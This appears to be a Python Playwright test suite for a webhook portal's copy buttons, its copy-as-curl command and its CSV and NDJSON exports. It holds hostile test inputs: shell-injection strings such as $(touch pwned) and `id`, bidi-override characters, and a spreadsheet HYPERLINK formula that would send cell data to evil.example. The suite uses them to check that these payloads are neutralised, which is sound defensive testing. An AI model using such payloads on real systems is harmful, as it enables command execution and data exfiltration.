"""What leaves the page: each copy button, the command for a shell, and the files."""

import csv
import io
import json
import shutil
import subprocess
from typing import Callable

import pytest
from playwright.sync_api import BrowserContext, Locator, Page, expect

from support import client, stack
from support.receiver import Receiver, Reply

WAIT = 30_000
# What curl and the sender each say of themselves.
OWN = ("host", "content-length", "accept", "accept-encoding", "connection")
# A shell, curl, printf and a terminal would each act on some of it.
NASTY = "it's \"quoted\" $(touch pwned) `id` \\ \\n %s %% !! @file \u202eevil\u2066 \u00fc \U0001f600"


@pytest.fixture
def page(new_context: Callable[..., BrowserContext]) -> Page:
    """Of a person who lets the page use the clipboard."""
    return new_context(permissions=["clipboard-read", "clipboard-write"]).new_page()


def copied(page: Page, button: Locator) -> str:
    """What the button leaves in the clipboard. Another page reads it: this one may only write."""
    page.evaluate("navigator.clipboard.writeText('nothing was copied')")
    button.click(timeout=WAIT)
    expect(page.get_by_role("status").filter(has_text="Copied").first).to_be_visible()
    reader = page.context.new_page()
    reader.route("**/*", lambda route: route.fulfill(content_type="text/html", body="<!doctype html><title>Another program</title>"))
    reader.goto(f"{page.evaluate('location.origin')}/another-program")
    reader.bring_to_front()
    text = reader.evaluate("navigator.clipboard.readText()")
    reader.close()
    page.bring_to_front()
    return text


def copies(page: Page, wanted: dict[str, list[str]]) -> None:
    """The page has these copy buttons and no other, and each copies its text."""
    buttons = page.get_by_role("main").get_by_role("button", name="Copy")
    for name, texts in wanted.items():
        expect(page.get_by_role("main").get_by_role("button", name=name, exact=True)).to_have_count(len(texts), timeout=WAIT)
        for at, text in enumerate(texts):
            assert copied(page, page.get_by_role("main").get_by_role("button", name=name, exact=True).nth(at)) == text, name
    assert buttons.count() == sum(len(texts) for texts in wanted.values()), buttons.all_inner_texts()


def test_every_copy_button_of_the_portal_copies_what_it_names(open_page: Callable[..., Page], page: Page, address: str, tenant: client.Tenant, receiver: Receiver):
    receiver.answer(Reply(200, {}, b"thank you"))
    webhook = tenant.new_webhook(receiver.url(), name="Shop")
    data = json.dumps({"text": NASTY}, ensure_ascii=False)
    delivery = tenant.wait_for_status(tenant.publish(data=data.encode()), "completed")
    (got,) = receiver.wait(1)
    key = tenant.new_key(["events:write"], name="ERP")
    keys = [one["id"] for one in tenant.api.get(tenant.path("/keys")).ok()["items"]]
    assert key["id"] in keys

    open_page(tenant, f"webhooks/{webhook['id']}")
    copies(page, {"Copy URL": [webhook["url"]], "Copy Webhook id": [webhook["id"]]})
    page.goto(f"{address}/portal/events/{delivery['eventId']}")
    copies(page, {"Copy Event id": [delivery["eventId"]], "Copy body": [data]})
    page.goto(f"{address}/portal/deliveries/{delivery['id']}")
    expect(page.get_by_role("button", name="Copy as curl")).to_be_visible(timeout=WAIT)
    command = copied(page, page.get_by_role("button", name="Copy as curl"))
    copies(
        page,
        {
            "Copy Event id": [delivery["eventId"]],
            "Copy Delivery id": [delivery["id"]],
            "Copy URL": [receiver.url()],
            "Copy body": [got.body.decode(), "thank you"],
            "Copy as curl": [command],
        },
    )
    page.goto(f"{address}/portal/keys")
    copies(page, {f"Copy {one}": [one] for one in keys})
    page.goto(f"{address}/portal/verify")
    for language in ("Node", "Python", "Go"):
        page.get_by_role("button", name=language, exact=True).click(timeout=WAIT)
        code = page.locator("pre.verify-code").text_content()
        assert code is not None and code.strip()
        copies(page, {"Copy sample": [code]})


def test_what_is_shown_once_can_be_copied(open_page: Callable[..., Page], page: Page, address: str, tenant: client.Tenant):
    open_page(tenant, "webhooks/new")
    page.locator("input[name=name]").fill("ERP")
    page.locator("input[name=url]").fill("postel:inbox")
    page.get_by_role("switch", name="All events").check()
    page.get_by_role("button", name="Add webhook").click()
    dialog = page.get_by_role("dialog", name="Store this secret now")
    shown = dialog.locator("input").first
    expect(shown).to_be_visible(timeout=WAIT)
    secret = copied(page, dialog.get_by_role("button", name="Copy Secret"))
    assert secret == shown.input_value() and secret.startswith("whsec_")
    dialog.get_by_role("button", name="I have stored it").click()
    expect(page.get_by_role("heading", name="ERP", level=1)).to_be_visible(timeout=WAIT)


def test_the_operators_copy_buttons_copy_what_they_name(page: Page, address: str, console_link: Callable[[], str], operator: client.Api, tenant: client.Tenant):
    event_type = f"{stack.unique('copied')}.made"
    example = {"n": 1, "text": NASTY}
    operator.put(f"/v1/event-types/{event_type}", {"example": example}).ok(201)
    try:
        page.goto(console_link())
        expect(page.get_by_role("heading", name="Overview", level=1)).to_be_visible(timeout=WAIT)
        page.goto(f"{address}/console/t/{tenant.id}/event-types")
        entry = page.locator(f"li[data-id='{event_type}']")
        entry.locator("summary").click(timeout=WAIT)
        assert json.loads(copied(page, entry.get_by_role("button", name=f"Copy Example of {event_type}"))) == example
        page.goto(f"{address}/console/tenants?link={tenant.id}")
        dialog = page.get_by_role("dialog")
        dialog.get_by_role("button", name="Make the link").click(timeout=WAIT)
        link = copied(page, dialog.get_by_role("button", name="Copy link"))
        assert link == dialog.locator("input[name=url]").input_value() and link.startswith(f"{address}/portal/#s=")
    finally:
        operator.delete(f"/v1/event-types/{event_type}")


@pytest.mark.parametrize("shell", [shell for shell in ("bash", "sh") if shutil.which(shell)])
def test_the_copied_command_sends_the_same_request_again(open_page: Callable[..., Page], page: Page, receiver: Receiver, tmp_path, shell: str):
    tenant = client.new_tenant("kuviq")
    path = "/hook/[1-3]/{a,b}?q='x'&$HOME;id"
    tenant.new_webhook(receiver.url(path), name="Shop")
    delivery = tenant.wait_for_status(tenant.publish(data={"text": NASTY, "number": 1.5}), "completed")
    (first,) = receiver.wait(1, path=None)
    open_page(tenant, f"deliveries/{delivery['id']}")
    command = copied(page, page.get_by_role("button", name="Copy as curl"))
    assert not [character for character in command if ord(character) < 32 and character != "\n" or character in "\u202e\u2066"]

    ran = subprocess.run([shell, "-c", command], cwd=tmp_path, capture_output=True, text=True, timeout=20)
    assert ran.returncode == 0, ran.stderr
    (_, second) = receiver.wait(2, path=None)
    assert (second.method, second.path, second.body) == (first.method, first.path, first.body)
    without = [{name: value for name, value in one.headers.items() if name not in OWN} for one in (first, second)]
    assert without[0] == without[1]
    assert list(tmp_path.iterdir()) == [], "the shell ran a part of the body"


def saved(page: Page, button: str) -> str:
    with page.expect_download() as download:
        page.get_by_role("button", name=button).click(timeout=WAIT)
    return download.value.path().read_bytes().decode()


def test_the_log_is_saved_for_a_spreadsheet_and_for_a_program(open_page: Callable[..., Page], page: Page, receiver: Receiver):
    tenant = client.new_tenant("kuviq")
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    tenant.new_webhook(receiver.url(), name=name)
    receiver.answer(403, 200)
    refused = tenant.wait_for_status(tenant.publish("item.created"), "failed")
    arrived = tenant.wait_for_status(tenant.publish("item.updated"), "completed")
    open_page(tenant, "log")
    expect(page.locator("tbody tr")).to_have_count(2, timeout=WAIT)

    rows = list(csv.DictReader(io.StringIO(saved(page, "Download CSV"), newline="")))
    assert [row["deliveryId"] for row in rows] == [arrived["id"], refused["id"]]
    assert [(row["Event type"], row["Status"], row["Attempts"], row["Response code"]) for row in rows] == [("item.updated", "completed", "1", "200"), ("item.created", "failed", "1", "403")]
    assert {row["Webhook"] for row in rows} == {f"'{name}"}, "a spreadsheet would run the name"

    lines = saved(page, "Download NDJSON").splitlines()
    assert [json.loads(line) for line in lines] == tenant.deliveries()


def test_a_secret_that_the_browser_does_not_let_the_page_copy_is_copied_by_hand(open_page: Callable[..., Page], tenant: client.Tenant):
    page = open_page(tenant, "webhooks/new")
    # As in a frame without `allow="clipboard-write"`.
    page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new DOMException('forbidden', 'NotAllowedError')); }")
    page.locator("input[name=name]").fill("ERP")
    page.get_by_role("button", name="Use the test receiver").click()
    page.get_by_role("switch", name="All events").check()
    page.get_by_role("button", name="Add webhook").click()
    shown = page.get_by_role("dialog", name="Store this secret now")
    secret = shown.locator("input")
    expect(secret).to_have_attribute("type", "password")
    shown.get_by_role("button", name="Copy").click()
    expect(shown.get_by_role("alert").filter(has_text="press Ctrl+C")).to_be_visible()
    # Nothing is copied out of a hidden field.
    expect(secret).to_have_attribute("type", "text")
    assert page.evaluate("() => document.activeElement.value.slice(document.activeElement.selectionStart, document.activeElement.selectionEnd)") == secret.input_value()
    assert secret.input_value().startswith("whsec_")
    shown.get_by_role("button", name="I have stored it").click()
    # What a page says while it leaves is for the next one; this is older.
    page.wait_for_timeout(400)
    page.get_by_role("link", name="Event log", exact=True).click()
    expect(page.get_by_role("heading", name="Event log", level=1)).to_be_visible()
    expect(page.get_by_text("press Ctrl+C")).to_have_count(0)
